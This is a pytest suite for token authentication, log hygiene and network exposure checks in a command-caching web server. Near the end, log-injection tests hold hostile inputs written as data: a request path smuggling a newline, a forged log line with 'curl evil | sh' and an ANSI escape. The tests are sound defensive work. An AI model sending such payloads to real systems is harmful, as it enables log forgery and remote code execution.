"""Tokens: 401 without one, 403 with a wrong one, the admin token for clearing, nothing logged."""

from __future__ import annotations

import hmac
import logging
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import requests
from click.testing import CliRunner
from starlette.testclient import TestClient

from runcache.cli import cli
from runcache.config import Config
from runcache.errors import ConfigError
from runcache.web.server import check_exposure

from conftest import LiveServer

TOKEN = "user-token-0123456789abcdef"
ADMIN = "admin-token-0123456789abcdef"
WRONG = "wrong-token-0123456789abcdef"

#: The client address Starlette's test client puts in each request's scope.
CLIENT = "testclient"

ClientFactory = Callable[..., TestClient]


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_without_a_token_setting_the_api_is_open(client: TestClient) -> None:
    assert client.get("/api/cache/stats").status_code == 200
    assert client.post("/api/cache/clear").status_code == 200


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/api/command"),
        ("GET", "/api/cache/stats"),
        ("POST", "/api/cache/clear"),
        ("GET", "/api/telemetry"),
        ("GET", "/api/no-such-endpoint"),
    ],
)
def test_missing_token_is_401_with_a_bearer_challenge(
    client_factory: ClientFactory, method: str, path: str
) -> None:
    client = client_factory(token=TOKEN)
    response = client.request(method, path, json={"command": "echo hi"})
    assert response.status_code == 401
    assert response.headers["WWW-Authenticate"].startswith("Bearer")
    assert "Authorization: Bearer" in response.json()["error"]


@pytest.mark.parametrize(
    "header", ["Basic dXNlcjpwYXNz", "Bearer", "Bearer   ", TOKEN, f"Token {TOKEN}"]
)
def test_a_header_without_a_bearer_token_is_401(client_factory: ClientFactory, header: str) -> None:
    client = client_factory(token=TOKEN)
    response = client.get("/api/cache/stats", headers={"Authorization": header})
    assert response.status_code == 401
    assert response.json()["error"]


@pytest.mark.parametrize("presented", [WRONG, TOKEN[:-1], TOKEN + "x", "é" * 20, "\x00" * 3])
def test_wrong_token_is_403_and_runs_nothing(client_factory: ClientFactory, presented: str) -> None:
    client = client_factory(token=TOKEN)
    # As bytes: a header value outside ASCII reaches the server as the client sent it.
    header = {b"Authorization": f"Bearer {presented}".encode()}
    response = client.post("/api/command", json={"command": "echo ran"}, headers=header)
    assert response.status_code == 403
    assert response.json() == {"error": "the token sent is not valid for this server"}
    stats = client.get("/api/telemetry", headers=bearer(TOKEN)).json()
    assert stats["commands_executed"] == 0


def test_right_token_is_served_and_the_scheme_is_case_insensitive(
    client_factory: ClientFactory,
) -> None:
    client = client_factory(token=TOKEN)
    response = client.post(
        "/api/command", json={"command": "echo ran"}, headers={"Authorization": f"bearer {TOKEN}"}
    )
    assert response.status_code == 200
    assert response.json()["stdout"] == "ran\n"


def test_one_token_serves_both_commands_and_clearing(client_factory: ClientFactory) -> None:
    client = client_factory(token=TOKEN)
    response = client.post("/api/cache/clear", headers=bearer(TOKEN))
    assert response.json() == {"success": True, "message": "Cache cleared"}


def test_clearing_needs_the_admin_token_once_one_is_set(client_factory: ClientFactory) -> None:
    client = client_factory(token=TOKEN, admin_token=ADMIN)
    client.post("/api/command", json={"command": "echo kept"}, headers=bearer(TOKEN))
    refused = client.post("/api/cache/clear", headers=bearer(TOKEN))
    assert refused.status_code == 403
    assert refused.json() == {"error": "this operation needs the admin token"}
    assert client.get("/api/cache/stats", headers=bearer(TOKEN)).json()["size"] == 1
    assert client.post("/api/cache/clear", headers=bearer(ADMIN)).status_code == 200
    assert client.get("/api/cache/stats", headers=bearer(ADMIN)).json()["size"] == 0


@pytest.mark.parametrize("path", ["/health", "/livez", "/openapi.json"])
def test_open_endpoints_need_no_token(client_factory: ClientFactory, path: str) -> None:
    client = client_factory(token=TOKEN)
    assert client.get(path).status_code == 200


def test_health_shows_no_command_output(client_factory: ClientFactory) -> None:
    client = client_factory(token=TOKEN)
    client.post("/api/command", json={"command": "echo s3cr3t-output"}, headers=bearer(TOKEN))
    body = client.get("/health").text
    assert "s3cr3t-output" not in body
    assert '"commands_executed":1' in body


def test_refusals_are_logged_with_the_client_but_never_the_token(
    client_factory: ClientFactory, caplog: pytest.LogCaptureFixture
) -> None:
    client = client_factory(token=TOKEN, admin_token=ADMIN)
    caplog.set_level(logging.DEBUG)
    client.get("/api/cache/stats")
    client.get("/api/cache/stats", headers=bearer(WRONG))
    client.post("/api/cache/clear", headers=bearer(TOKEN))
    client.get("/api/cache/stats", headers=bearer(TOKEN))
    messages = [record.getMessage() for record in caplog.records]
    refusals = [message for message in messages if "refused" in message]
    assert refusals == [
        f"{CLIENT} refused GET '/api/cache/stats': no bearer token",
        f"{CLIENT} refused GET '/api/cache/stats': wrong token",
        f"{CLIENT} refused POST '/api/cache/clear': wrong admin token",
    ]
    for secret in (TOKEN, ADMIN, WRONG):
        assert secret not in caplog.text


def test_live_server_refuses_and_serves_and_never_logs_the_token(
    live_server_factory: Callable[..., LiveServer],
) -> None:
    server = live_server_factory(env={"RUNCACHE_TOKEN": TOKEN})
    assert requests.get(f"{server.url}/api/cache/stats", timeout=10).status_code == 401
    wrong = requests.get(f"{server.url}/api/cache/stats", headers=bearer(WRONG), timeout=10)
    assert wrong.status_code == 403
    assert wrong.json()["error"]
    right = requests.post(
        f"{server.url}/api/command", json={"command": "echo hi"}, headers=bearer(TOKEN), timeout=10
    )
    assert right.json()["stdout"] == "hi\n"
    assert server.stop() == 0
    log = "".join(server.output)
    assert "refused GET '/api/cache/stats': wrong token" in log
    assert TOKEN not in log and WRONG not in log


# -- settings ------------------------------------------------------------------------


def test_token_file_is_read_and_stripped(tmp_path: Path) -> None:
    path = tmp_path / "token"
    path.write_text(TOKEN + "\n")
    config = Config.load({"token_file": str(path)}, environ={})
    assert config.token == TOKEN
    assert config.admin_secret == TOKEN


def test_tokens_stay_out_of_repr() -> None:
    config = Config.load(environ={"RUNCACHE_TOKEN": TOKEN, "RUNCACHE_ADMIN_TOKEN": ADMIN})
    assert (config.token, config.admin_secret) == (TOKEN, ADMIN)
    assert TOKEN not in repr(config) and ADMIN not in repr(config)


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ({"token": "short"}, "token must be at least 16 characters"),
        ({"token": "has spaces in it, 0123456789"}, "token must be at least 16"),
        ({"admin_token": ADMIN}, "admin_token is set but token is not"),
        ({"token_file": "/nonexistent/token"}, "token_file '/nonexistent/token' cannot be read"),
    ],
)
def test_bad_token_settings_are_config_errors(settings: dict[str, str], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        Config.load(settings, environ={})


def test_token_and_a_different_token_file_conflict(tmp_path: Path) -> None:
    path = tmp_path / "token"
    path.write_text(ADMIN)
    with pytest.raises(ConfigError, match="both token and token_file are set"):
        Config.load({"token": TOKEN, "token_file": str(path)}, environ={})
    (tmp_path / "empty").write_text("\n")
    with pytest.raises(ConfigError, match="is empty"):
        Config.load({"token_file": str(tmp_path / "empty")}, environ={})


def test_tokens_have_no_command_line_flag_but_token_files_do() -> None:
    """A flag's value shows in ``ps`` to every user of the machine."""
    result = CliRunner().invoke(cli, ["serve", "--help"])
    assert "--token-file" in result.output and "--admin-token-file" in result.output
    assert "--token " not in result.output and "--admin-token " not in result.output


# -- exposure beyond loopback --------------------------------------------------------


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1"])
def test_loopback_needs_no_token(host: str) -> None:
    check_exposure(Config.load({"host": host}, environ={}))


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.1"])
def test_other_hosts_need_a_token(host: str) -> None:
    with pytest.raises(ConfigError, match=f"refusing to listen on {host} without a token"):
        check_exposure(Config.load({"host": host}, environ={}))
    check_exposure(Config.load({"host": host, "token": TOKEN}, environ={}))


def test_serve_on_all_interfaces_without_a_token_exits_saying_why() -> None:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("RUNCACHE_")}
    finished = subprocess.run(
        [sys.executable, "-m", "runcache", "serve", "--host", "0.0.0.0", "--port", "0"],
        capture_output=True,
        text=True,
        env=environment,
        timeout=60,
    )
    assert finished.returncode == 2
    assert "refusing to listen on 0.0.0.0 without a token" in finished.stderr
    assert "RUNCACHE_TOKEN" in finished.stderr
    assert "listening" not in finished.stdout


# -- what the log says ----------------------------------------------------------------


def test_log_says_who_ran_what_and_whether_it_hit_but_no_output_or_token(
    client_factory: ClientFactory, caplog: pytest.LogCaptureFixture
) -> None:
    client = client_factory(token=TOKEN)
    caplog.set_level(logging.DEBUG)
    for _ in range(2):
        client.post("/api/command", json={"command": "echo marker-$((6*7))"}, headers=bearer(TOKEN))
    lines = [(r.levelno, r.getMessage()) for r in caplog.records if r.name == "runcache"]
    assert lines[0][0] == logging.INFO
    assert lines[0][1].startswith(f"{CLIENT} ran 'echo marker-$((6*7))': exit 0 in ")
    # Hits are the hot path: DEBUG, so a busy server's INFO log holds only real runs.
    assert lines[1] == (logging.DEBUG, f"{CLIENT} hit 'echo marker-$((6*7))'")
    assert "marker-42" not in caplog.text  # the output, at INFO or any level
    assert TOKEN not in caplog.text


def test_a_command_cannot_forge_log_lines(
    client: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    client.post("/api/command", json={"command": "true\n127.0.0.1 ran 'forged'"})
    messages = [record.getMessage() for record in caplog.records if record.name == "runcache"]
    assert all("\n" not in message for message in messages)


def test_a_refused_path_cannot_forge_log_lines_or_send_escapes(
    live_server_factory: Callable[..., LiveServer],
) -> None:
    """As reported: with tokens set, a request for a path holding a newline, a whole fake
    "ran" line and an ANSI escape, sent without a token, wrote both into the log."""
    server = live_server_factory(env={"RUNCACHE_TOKEN": TOKEN})
    fake = "127.0.0.1 ran 'curl evil | sh': exit 0 in 0.001s"
    path = (
        "/api/x%0a" + fake.replace(" ", "%20").replace("'", "%27").replace("|", "%7C") + "%0a%1b[2K"
    )
    assert requests.get(server.url + path, timeout=10).status_code == 401
    requests.get(server.url + "/livez", timeout=10)  # a request after it, so its line is in
    assert server.stop() == 0
    logged = "".join(server.output)
    assert "refused GET \"/api/x\\n127.0.0.1 ran 'curl evil" in logged  # quoted, one line
    assert not any(
        line.startswith(fake) or fake in line.split("refused")[0] for line in logged.splitlines()
    )
    assert "\x1b" not in logged


def test_tokens_are_compared_in_constant_time(
    client_factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Timing cannot be seen from a test; the comparison used can. Every token check goes
    through hmac.compare_digest, with the token presented, for the answer each gives."""
    compared: list[tuple[bytes, bytes]] = []
    real = hmac.compare_digest

    def recording(presented: bytes, expected: bytes) -> bool:
        compared.append((presented, expected))
        return real(presented, expected)

    monkeypatch.setattr(hmac, "compare_digest", recording)
    client = client_factory(token=TOKEN, admin_token=ADMIN)
    for token, path, status in (
        (WRONG, "/api/cache/stats", 403),
        (TOKEN, "/api/cache/stats", 200),
        (TOKEN, "/api/cache/clear", 403),
        (ADMIN, "/api/cache/clear", 200),
    ):
        compared.clear()
        method = client.post if path.endswith("clear") else client.get
        assert method(path, headers=bearer(token)).status_code == status
        assert compared and all(presented == token.encode() for presented, _ in compared)
